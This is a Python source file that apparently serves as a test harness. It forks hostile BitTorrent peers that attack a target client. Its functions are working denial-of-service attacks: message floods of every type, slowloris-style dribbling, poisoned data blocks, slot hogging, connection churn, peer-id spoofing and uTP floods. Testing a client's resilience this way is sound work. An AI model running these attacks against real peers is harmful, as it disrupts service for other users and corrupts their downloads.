"""attackers.py ORDER: hostile peers, each a forked process with plain blocking sockets.

ORDER is JSON: ``attacks`` (one name a process), ``host`` and ``port`` of the victim, ``hosts`` (the
address each process uses), ``info_hash``, ``pieces``, ``piece_bytes``, ``payload`` (its path),
``honest`` ([host, port] pairs), ``flood_kib_per_s``, ``nice``. Prints "ready", waits for a line,
then attacks until it is ended.
"""

import json
import os
import random
import re
import select
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from typing import Any

BLOCK_BYTES = 16 * 1024
RETRY_S = 0.5
LORIS_S = 1.0
SMALL_BUFFER_BYTES = 4096
CHUNK_BYTES = 16 * 1024
SLOW_BYTES_PER_S = 32 * 1024
PROTOCOL = b"\x13BitTorrent protocol"
RESERVED = bytes([0, 0, 0, 0, 0, 0x10, 0, 0x05])  # BEP 10, BEP 6, BEP 5
ALLOWED = b"d1:md11:ut_metadatai2e6:ut_pexi1e11:lt_donthavei3e12:ut_holepunchi4ee4:reqqi2000ee"
UT_PEX_HOSTS = 50
CONNECTS_PER_S = 100
UTP_DATA, UTP_STATE, UTP_SYN = 0, 2, 4  # BEP 29
UTP_WINDOW_BYTES = 1 << 20
UTP_IDLE_LINKS = 50
UTP_FLOOD_S = 3.0
DATAGRAM_BYTES = 28  # the headers of IPv4 and UDP, which count against the rate of a flood
DATAGRAMS_AT_ONCE = 16


def message(number: int, body: bytes = b"") -> bytes:
    return struct.pack(">IB", 1 + len(body), number) + body


def extended(number: int, body: bytes) -> bytes:
    return message(20, bytes([number]) + body)


class HungUpError(Exception):
    """The victim hung up."""


class Attacker:
    """One hostile peer: its addresses, its victim, and what it knows of the torrent."""

    def __init__(self, order: dict[str, Any], number: int) -> None:
        self.order = order
        self.host = order["hosts"][number]
        self.victim = (order["host"], order["port"])
        self.info_hash = bytes.fromhex(order["info_hash"])
        self.pieces: int = order["pieces"]
        self.piece_bytes: int = order["piece_bytes"]
        self.rng = random.Random(number)
        self.peer_id = b"-XX0001-%012d" % self.rng.randrange(10**12)
        self.socket = socket.socket()
        self.heard = b""

    def run(self, attack: "Attack") -> None:
        """Attack, and again once the victim hung up."""
        while True:
            with suppress(OSError, HungUpError):
                attack(self)
            self.socket.close()
            time.sleep(RETRY_S * self.rng.uniform(0.5, 1.5))

    # -- links ------------------------------------------------------------------------------------

    def connect(self, receive_buffer: int = 0) -> None:
        self.socket = socket.socket()
        self.heard = b""
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.socket.bind((self.host, 0))
        self.socket.settimeout(20)
        self.socket.connect(self.victim)

    def handshake(self) -> bytes:
        return PROTOCOL + RESERVED + self.info_hash + self.peer_id

    def enter(self, *, first: bytes = b"", receive_buffer: int = 0) -> None:
        """Connect and shake hands; ``first`` is the message that says what we have."""
        self.connect(receive_buffer)
        self.socket.sendall(self.handshake() + (first or message(15)) + extended(0, ALLOWED))
        while len(self.heard) < len(PROTOCOL) + 48:
            self.hear()

    def hear(self) -> int:
        """Read once; return how many bytes that were."""
        data = self.socket.recv(64 * 1024)
        if not data:
            raise HungUpError
        self.heard = (self.heard + data)[-256 * 1024 :]
        return len(data)

    def number_of(self, name: bytes) -> int:
        """Return how the victim numbers an extension; 1 if it did not say."""
        until_s = time.monotonic() + 1
        while time.monotonic() < until_s:
            if found := re.search(rb"%d:%bi(\d+)e" % (len(name), name), self.heard):
                return int(found[1])
            if select.select([self.socket], [], [], 0.1)[0]:
                self.hear()
        return 1

    def bitfield(self) -> bytes:
        bits = ((1 << self.pieces) - 1) << -self.pieces % 8
        return message(5, bits.to_bytes((self.pieces + 7) // 8, "big"))

    # -- patterns ---------------------------------------------------------------------------------

    def idle(self) -> None:
        """Read and say nothing until the victim hangs up."""
        self.socket.settimeout(None)
        while True:
            self.hear()

    def flood(self, unit: bytes | Callable[[], bytes], *, reads_per_s: int = 0) -> None:
        """Send ``unit`` again and again at the rate of a flood; ``reads_per_s`` 0: read all."""
        rate = self.order["flood_kib_per_s"] * 1024
        make = unit if callable(unit) else lambda: unit * max(1, chunk // len(unit))
        chunk = max(64, min(CHUNK_BYTES, rate // 10))
        allowed, may_read, last_s, rest = 0.0, 1.0, time.monotonic(), b""
        self.socket.settimeout(0)
        while True:
            now = time.monotonic()
            allowed = min(allowed + (now - last_s) * rate, rate)
            may_read = min(may_read + (now - last_s) * reads_per_s, CHUNK_BYTES)
            last_s = now
            wanted = [self.socket] if rest or allowed > 0 else []
            heard = [self.socket] if may_read > 0 else []
            readable, writable, _ = select.select(heard, wanted, [], 0.1)
            if readable:
                may_read -= self.hear() if reads_per_s else 0
            if writable:
                rest = rest or make()
                sent = self.socket.send(rest)
                rest, allowed = rest[sent:], allowed - sent

    def trickle_in(self, bytes_per_s: int) -> None:
        """Read so little that the victim can send next to nothing."""
        step = max(1, bytes_per_s // 4)
        while True:
            time.sleep(0.25)
            with suppress(BlockingIOError):
                if not self.socket.recv(step):
                    raise HungUpError

    def block_request(self) -> bytes:
        piece = self.rng.randrange(max(self.pieces - 1, 1))
        begin = self.rng.randrange(self.piece_bytes // BLOCK_BYTES) * BLOCK_BYTES
        return message(6, struct.pack(">III", piece, begin, BLOCK_BYTES))


Attack = Callable[[Attacker], None]
ATTACKS: dict[str, Attack] = {}
GROUPS: dict[str, list[str]] = {}


def attack(group: str, name: str) -> Callable[[Attack], Attack]:
    def note(function: Attack) -> Attack:
        ATTACKS[name] = function
        GROUPS.setdefault(group, []).append(name)
        return function

    return note


# -- silence --------------------------------------------------------------------------------------


@attack("silent", "silent")
def silent(self: Attacker) -> None:
    self.enter()
    self.idle()


@attack("silent", "half-open")
def half_open(self: Attacker) -> None:
    """48 bytes of a handshake, then nothing."""
    self.connect()
    self.socket.sendall(self.handshake()[:48])
    self.idle()


@attack("silent", "no-handshake")
def no_handshake(self: Attacker) -> None:
    self.connect()
    self.idle()


@attack("silent", "false-seed")
def false_seed(self: Attacker) -> None:
    """Has everything, unchokes, answers no request."""
    self.enter(first=message(14))
    self.socket.sendall(message(1))
    self.idle()


# -- garbage --------------------------------------------------------------------------------------


@attack("garbage", "garbage")
def garbage(self: Attacker) -> None:
    self.connect()
    self.flood(lambda: self.rng.randbytes(CHUNK_BYTES))


@attack("garbage", "garbage-after-handshake")
def garbage_after(self: Attacker) -> None:
    self.enter()
    self.flood(lambda: self.rng.randbytes(CHUNK_BYTES))


@attack("garbage", "garbage-messages")
def garbage_messages(self: Attacker) -> None:
    """Well-formed lengths, ids that exist, bodies of noise."""
    self.enter()
    self.flood(lambda: message(self.rng.randrange(24), self.rng.randbytes(self.rng.randrange(40))))


@attack("garbage", "garbage-extended")
def garbage_extended(self: Attacker) -> None:
    self.enter()
    self.flood(lambda: extended(self.rng.randrange(6), self.rng.randbytes(200)))


# -- floods of every message type -----------------------------------------------------------------


def flood_of(name: str, *units: bytes, first: bytes = b"", group: str = "floods") -> None:
    @attack(group, name)
    def run(self: Attacker) -> None:
        self.enter(first=first)
        self.flood(b"".join(units))


flood_of("keep-alive-flood", bytes(4))
flood_of("choke-flood", message(0))
flood_of("unchoke-flood", message(1))
flood_of("choke-toggle", message(0), message(1))
flood_of("interested-flood", message(2))
flood_of("not-interested-flood", message(3))
flood_of("interested-toggle", message(2), message(3))
flood_of("port-flood", message(9, b"\x1a\xe1"))
flood_of("have-all-flood", message(14))
flood_of("have-all-toggle", message(14), message(15))
flood_of("unknown-flood", message(99, b"x"))
flood_of("extension-handshake-flood", extended(0, ALLOWED))
flood_of("hash-request-flood", message(21, bytes(48)))


@attack("floods", "have-flood")
def have_flood(self: Attacker) -> None:
    self.enter()
    every = b"".join(message(4, struct.pack(">I", index)) for index in range(self.pieces))
    self.flood(every)


@attack("floods", "have-one-flood")
def have_one_flood(self: Attacker) -> None:
    self.enter()
    self.flood(message(4, bytes(4)))


@attack("floods", "bitfield-flood")
def bitfield_flood(self: Attacker) -> None:
    self.enter(first=self.bitfield())
    self.flood(self.bitfield())


@attack("floods", "request-choked-flood")
def request_choked_flood(self: Attacker) -> None:
    """Requests without ever being interested."""
    self.enter(first=message(14))
    self.flood(self.block_request())


@attack("floods", "cancel-flood")
def cancel_flood(self: Attacker) -> None:
    self.enter()
    self.flood(b"\x00\x00\x00\x0d\x08" + self.block_request()[5:])


@attack("floods", "reject-flood")
def reject_flood(self: Attacker) -> None:
    self.enter(first=message(14))
    self.flood(b"\x00\x00\x00\x0d\x10" + self.block_request()[5:])


@attack("floods", "suggest-flood")
def suggest_flood(self: Attacker) -> None:
    self.enter(first=message(14))
    self.flood(lambda: message(13, struct.pack(">I", self.rng.randrange(self.pieces))) * 100)


@attack("floods", "allowed-fast-flood")
def allowed_fast_flood(self: Attacker) -> None:
    self.enter(first=message(14))
    self.flood(lambda: message(17, struct.pack(">I", self.rng.randrange(self.pieces))) * 100)


@attack("floods", "unasked-block-flood")
def unasked_block_flood(self: Attacker) -> None:
    self.enter(first=message(14))
    self.flood(message(7, bytes(8 + BLOCK_BYTES)))


@attack("floods", "dont-have-flood")
def dont_have_flood(self: Attacker) -> None:
    self.enter(first=message(14))
    number = self.number_of(b"lt_donthave")
    every = (extended(number, struct.pack(">I", each)) for each in range(self.pieces))
    self.flood(b"".join(every))


@attack("floods", "have-dont-have")
def have_dont_have(self: Attacker) -> None:
    self.enter()
    number = self.number_of(b"lt_donthave")
    self.flood(message(4, bytes(4)) + extended(number, bytes(4)))


@attack("floods", "metadata-request-flood")
def metadata_request_flood(self: Attacker) -> None:
    self.enter()
    number = self.number_of(b"ut_metadata")
    self.flood(extended(number, b"d8:msg_typei0e5:piecei0ee"))


@attack("floods", "metadata-data-flood")
def metadata_data_flood(self: Attacker) -> None:
    self.enter()
    number = self.number_of(b"ut_metadata")
    body = b"d8:msg_typei1e5:piecei0e10:total_sizei16384ee" + bytes(BLOCK_BYTES)
    self.flood(extended(number, body))


@attack("floods", "pex-flood")
def pex_flood(self: Attacker) -> None:
    self.enter()
    number = self.number_of(b"ut_pex")

    def unit() -> bytes:
        peers = b"".join(
            bytes([127, *self.rng.randbytes(3)]) + self.rng.randbytes(2)
            for _ in range(UT_PEX_HOSTS)
        )
        return extended(number, b"d5:added%d:%b7:added.f%d:%be" % (
            len(peers), peers, UT_PEX_HOSTS, bytes(UT_PEX_HOSTS)
        ))  # fmt: skip

    self.flood(unit)


@attack("floods", "holepunch-flood")
def holepunch_flood(self: Attacker) -> None:
    self.enter()
    number = self.number_of(b"ut_holepunch")
    self.flood(extended(number, bytes([0, 0, 127, 0, 0, 1, 0x1A, 0xE1, 0, 0, 0, 0])))


# -- messages that never end ----------------------------------------------------------------------


def dribble(self: Attacker, start: bytes, bulk: int) -> None:
    """Send the start of a message and ``bulk`` bytes of it, then a byte a second."""
    self.socket.sendall(start + bytes(bulk))
    self.socket.settimeout(LORIS_S)
    while True:
        with suppress(TimeoutError):
            self.hear()
        self.socket.send(b"\0")


@attack("loris", "loris-extended")
def loris_extended(self: Attacker) -> None:
    self.enter()
    dribble(self, struct.pack(">IBB", 512 * 1024, 20, self.number_of(b"ut_pex")), 511 * 1024)


@attack("loris", "loris-unknown")
def loris_unknown(self: Attacker) -> None:
    self.enter()
    dribble(self, struct.pack(">IB", 1024 * 1024, 99), 1023 * 1024)


@attack("loris", "loris-metadata")
def loris_metadata(self: Attacker) -> None:
    self.enter()
    dribble(self, struct.pack(">IBB", 512 * 1024, 20, self.number_of(b"ut_metadata")), 500 * 1024)


@attack("loris", "loris-block")
def loris_block(self: Attacker) -> None:
    """A block of 16 KiB, one byte a second."""
    self.enter(first=message(14))
    self.socket.sendall(message(1))
    dribble(self, struct.pack(">IBII", 9 + BLOCK_BYTES, 7, 0, 0), 100)


@attack("loris", "loris-handshake")
def loris_handshake(self: Attacker) -> None:
    self.connect()
    self.socket.settimeout(LORIS_S)
    for byte in self.handshake():
        self.socket.send(bytes([byte]))
        time.sleep(LORIS_S)


# -- wrong blocks ---------------------------------------------------------------------------------


def serve(self: Attacker, lies: Callable[[int, int, int], bool]) -> None:
    """Have everything, answer at once; ``lies`` of (number, piece, begin) says if with zeros."""
    self.enter(first=message(14))
    self.socket.settimeout(None)
    self.socket.sendall(message(1))
    numbers = iter(range(1 << 60))
    with open(self.order["payload"], "rb", buffering=0) as file:
        for piece, begin, length in requests_of(self):
            if lies(next(numbers), piece, begin):
                data = bytes(length)
            else:
                data = os.pread(file.fileno(), length, piece * self.piece_bytes + begin)
            self.socket.sendall(message(7, struct.pack(">II", piece, begin) + data))


def requests_of(self: Attacker) -> Iterator[tuple[int, int, int]]:
    buffer = self.heard[len(PROTOCOL) + 48 :]
    while True:
        at = 0
        while len(buffer) - at >= 4:
            length = int.from_bytes(buffer[at : at + 4], "big")
            if len(buffer) - at - 4 < length:
                break
            if length == 13 and buffer[at + 4] == 6:
                yield struct.unpack_from(">III", buffer, at + 5)
            at += 4 + length
        data = self.socket.recv(64 * 1024)
        if not data:
            raise HungUpError
        buffer = buffer[at:] + data


@attack("poison", "poison")
def poison(self: Attacker) -> None:
    serve(self, lambda _number, _piece, _begin: True)


@attack("poison-first", "poison-first")
def poison_first(self: Attacker) -> None:
    """Only the first block of each piece is wrong."""
    serve(self, lambda _number, _piece, begin: not begin)


@attack("poison-some", "poison-some")
def poison_some(self: Attacker) -> None:
    """One block in fifty is wrong."""
    serve(self, lambda _number, _piece, _begin: self.rng.randrange(50) == 0)


# -- against a seed -------------------------------------------------------------------------------


@attack("readers", "slow-reader")
def slow_reader(self: Attacker) -> None:
    """Take a slot and 2 KiB a second."""
    self.enter(receive_buffer=SMALL_BUFFER_BYTES)
    self.socket.sendall(message(2))
    self.socket.sendall(b"".join(self.block_request() for _ in range(100)))
    self.socket.settimeout(0)
    self.trickle_in(2048)


@attack("readers", "no-reader")
def no_reader(self: Attacker) -> None:
    """Take a slot, ask for much, read nothing."""
    self.enter(receive_buffer=SMALL_BUFFER_BYTES)
    self.socket.sendall(message(2))
    time.sleep(1)
    self.socket.sendall(b"".join(self.block_request() for _ in range(200)))
    time.sleep(3600)


@attack("readers", "interested-only")
def interested_only(self: Attacker) -> None:
    """Take a slot and ask for nothing."""
    self.enter()
    self.socket.sendall(message(2))
    self.idle()


@attack("greedy", "greedy")
def greedy(self: Attacker) -> None:
    """Ask for blocks without end and take all that comes, as any fast leech does."""
    self.enter()
    self.socket.sendall(message(2))
    self.flood(lambda: b"".join(self.block_request() for _ in range(64)))


@attack("request-floods", "request-flood")
def request_flood(self: Attacker) -> None:
    """Ask for blocks without end, whether choked or not; take 32 KiB a second."""
    self.enter(receive_buffer=SMALL_BUFFER_BYTES)
    self.socket.sendall(message(2))
    flood = lambda: b"".join(self.block_request() for _ in range(64))  # noqa: E731
    self.flood(flood, reads_per_s=SLOW_BYTES_PER_S)


@attack("request-floods", "request-cancel-flood")
def request_cancel_flood(self: Attacker) -> None:
    self.enter()
    self.socket.sendall(message(2))

    def unit() -> bytes:
        request = self.block_request()
        return (request + b"\x00\x00\x00\x0d\x08" + request[5:]) * 16

    self.flood(unit, reads_per_s=SLOW_BYTES_PER_S)


@attack("request-floods", "request-invalid-flood")
def request_invalid_flood(self: Attacker) -> None:
    self.enter()
    self.socket.sendall(message(2))
    self.flood(message(6, struct.pack(">III", self.pieces + 7, 0, BLOCK_BYTES)))


@attack("trickle", "choke-trickle")
def choke_trickle(self: Attacker) -> None:
    """Cause choke, unchoke and reject messages, and read a trickle of them."""
    self.enter(receive_buffer=SMALL_BUFFER_BYTES)
    unit = (message(2) + self.block_request() * 4 + message(3)) * 32
    self.socket.settimeout(0)
    last_s, rest = time.monotonic(), b""
    while True:
        time.sleep(0.05)
        with suppress(BlockingIOError):
            rest = rest or unit
            rest = rest[self.socket.send(rest) :]
        if time.monotonic() - last_s > 0.5:
            last_s = time.monotonic()
            with suppress(BlockingIOError):
                if not self.socket.recv(64):
                    raise HungUpError


@attack("trickle", "metadata-trickle")
def metadata_trickle(self: Attacker) -> None:
    """Ask for the metadata again and again, and read a trickle of it."""
    self.enter(receive_buffer=SMALL_BUFFER_BYTES)
    unit = extended(self.number_of(b"ut_metadata"), b"d8:msg_typei0e5:piecei0ee") * 16
    self.socket.settimeout(0)
    while True:
        time.sleep(0.25)
        with suppress(BlockingIOError):
            self.socket.send(unit)
        with suppress(BlockingIOError):
            if not self.socket.recv(256):
                raise HungUpError


@attack("churn", "churn")
def churn(self: Attacker) -> None:
    """Connect, shake hands, hang up; twenty a second."""
    while True:
        with suppress(OSError, HungUpError):
            self.enter()
        self.socket.close()
        time.sleep(0.05)


@attack("churn", "stolen-id")
def stolen_id(self: Attacker) -> None:
    """Claim the peer id of somebody honest."""
    for host, port in self.order["honest"]:
        with suppress(OSError, HungUpError):
            self.victim = (host, port)
            self.enter()
            self.order["ids"] = {*self.order.get("ids", ()), self.heard[48:68]}
    self.socket.close()
    self.victim = (self.order["host"], self.order["port"])
    if ids := sorted(self.order.get("ids", ())):
        self.peer_id = self.rng.choice(ids)
    self.enter()
    self.idle()


# -- connections that come and go -----------------------------------------------------------------


def connects(self: Attacker, first: bytes) -> None:
    """Connect, send ``first``, hang up; so many times a second."""
    while True:
        with suppress(OSError):
            self.connect()
            self.socket.sendall(first)
        self.socket.close()
        time.sleep(1 / CONNECTS_PER_S)


@attack("connects", "connect-flood")
def connect_flood(self: Attacker) -> None:
    connects(self, b"")


@attack("connects", "handshake-flood")
def handshake_flood(self: Attacker) -> None:
    """Hang up before the answer can be there."""
    connects(self, self.handshake())


@attack("connects", "encrypted-flood")
def encrypted_flood(self: Attacker) -> None:
    """What looks like the start of an encrypted handshake, whose keys cost the most."""
    connects(self, self.rng.randbytes(96 + self.rng.randrange(512)))


# -- uTP ------------------------------------------------------------------------------------------


def utp_packet(kind: int, connection: int, seq: int, ack: int, payload: bytes = b"") -> bytes:
    """Return one datagram of uTP (BEP 29)."""
    now_us = time.monotonic_ns() // 1000 & 0xFFFFFFFF
    head = struct.pack(
        ">BBHIIIHH", kind << 4 | 1, 0, connection & 0xFFFF, now_us, 0, UTP_WINDOW_BYTES, seq, ack
    )
    return head + payload


def utp_socket(self: Attacker) -> socket.socket:
    """Return a socket at the next port of this attacker."""
    found = socket.socket(type=socket.SOCK_DGRAM)
    found.bind((self.host, 0))
    found.connect(self.victim)
    found.settimeout(1)
    return found


def datagrams(
    self: Attacker, make: Callable[[], bytes], sockets: list[socket.socket], for_s: float = 1e9
) -> None:
    """Send datagrams at the rate of a flood, from any of the sockets."""
    rate = self.order["flood_kib_per_s"] * 1024
    end_s = time.monotonic() + for_s
    while time.monotonic() < end_s:
        sent = 0
        for _ in range(DATAGRAMS_AT_ONCE):
            data = make()
            with suppress(OSError):
                self.rng.choice(sockets).send(data)
            sent += len(data) + DATAGRAM_BYTES
        time.sleep(sent / rate)


@attack("utp", "utp-syn-flood")
def utp_syn_flood(self: Attacker) -> None:
    """SYNs of connections that nobody goes on with, from many ports."""
    sockets = [utp_socket(self) for _ in range(UTP_IDLE_LINKS)]
    number = lambda: self.rng.randrange(1 << 16)  # noqa: E731
    datagrams(self, lambda: utp_packet(UTP_SYN, number(), 1, 0), sockets)


@attack("utp", "utp-unknown-flood")
def utp_unknown_flood(self: Attacker) -> None:
    """Packets of every kind to connections that there are not."""
    number, payload = (lambda: self.rng.randrange(1 << 16)), self.rng.randbytes(100)
    make = lambda: utp_packet(self.rng.randrange(5), number(), number(), number(), payload)  # noqa: E731
    datagrams(self, make, [utp_socket(self)])


class UtpLink:
    """One connection of uTP that the victim has accepted."""

    def __init__(self, attacker: Attacker) -> None:
        """Raise OSError if the victim does not answer."""
        self.socket = utp_socket(attacker)
        self.number = attacker.rng.randrange(1 << 16)
        self.seq = 1
        self.socket.send(utp_packet(UTP_SYN, self.number, self.seq, 0))
        answer = self.socket.recv(2048)
        while len(answer) < 20 or answer[0] >> 4 != UTP_STATE:
            answer = self.socket.recv(2048)
        self.heard = (int.from_bytes(answer[16:18], "big") - 1) & 0xFFFF

    def data(self, payload: bytes) -> None:
        self.seq = (self.seq + 1) & 0xFFFF
        self.socket.send(self.packet(UTP_DATA, payload))

    def packet(self, kind: int, payload: bytes = b"") -> bytes:
        """Return a packet with the numbers of the last one."""
        return utp_packet(kind, self.number + 1, self.seq, self.heard, payload)

    def state(self) -> bytes:
        """Return an acknowledgement that says nothing new."""
        return self.packet(UTP_STATE)


def utp_links(self: Attacker, first: bytes, count: int) -> list[UtpLink]:
    links = []
    for _ in range(count):
        with suppress(OSError):
            link = UtpLink(self)
            link.data(first)
            links.append(link)
    return links


@attack("utp", "utp-idle")
def utp_idle(self: Attacker) -> None:
    """Connections that are accepted, of which one byte comes and nothing is taken."""
    while True:
        links = utp_links(self, PROTOCOL[:1], UTP_IDLE_LINKS)
        time.sleep(5)
        for link in links:
            link.socket.close()


def utp_flood(self: Attacker, make: Callable[[UtpLink], bytes], first: bytes) -> None:
    """Begin a connection and send the same again and again; a new one after some time."""
    while True:
        for link in utp_links(self, first, 1):
            datagrams(self, partial(make, link), [link.socket], UTP_FLOOD_S)
            link.socket.close()
        time.sleep(RETRY_S)


@attack("utp", "utp-state-flood")
def utp_state_flood(self: Attacker) -> None:
    """A peer whose acknowledgements move nothing."""
    utp_flood(self, UtpLink.state, self.handshake() + message(15))


@attack("utp", "utp-data-again")
def utp_data_again(self: Attacker) -> None:
    """A peer that sends the same full packet again and again."""
    payload = self.handshake() + message(15) + message(99, bytes(1000))
    utp_flood(self, lambda link: link.packet(UTP_DATA, payload), payload)


# -- processes ------------------------------------------------------------------------------------


def main() -> None:
    order = json.loads(sys.argv[1])
    gate_read, gate_write = os.pipe()
    children = []
    for number, name in enumerate(order["attacks"]):
        if child := os.fork():
            children.append(child)
            continue
        run_child(order, number, name, gate_read, gate_write)
    signal.signal(signal.SIGTERM, lambda *_: end(children))
    print("ready", flush=True)
    sys.stdin.readline()
    os.close(gate_write)  # whoever reads the gate begins
    while True:
        signal.pause()


def run_child(order: dict[str, Any], number: int, name: str, *gate: int) -> None:
    gate_read, gate_write = gate
    os.close(gate_write)
    os.nice(order["nice"])
    with suppress(OSError), open("/proc/self/comm", "w") as file:
        file.write(name)  # for ps
    parent = os.getppid()
    os.read(gate_read, 1)
    if os.getppid() == parent:
        signal.signal(signal.SIGALRM, lambda *_: os.getppid() == parent or os._exit(0))
        signal.setitimer(signal.ITIMER_REAL, 2, 2)
        Attacker(order, number).run(ATTACKS[name])
    os._exit(0)


def end(children: list[int]) -> None:
    for child in children:
        os.kill(child, signal.SIGKILL)
    os._exit(0)


if __name__ == "__main__":
    main()
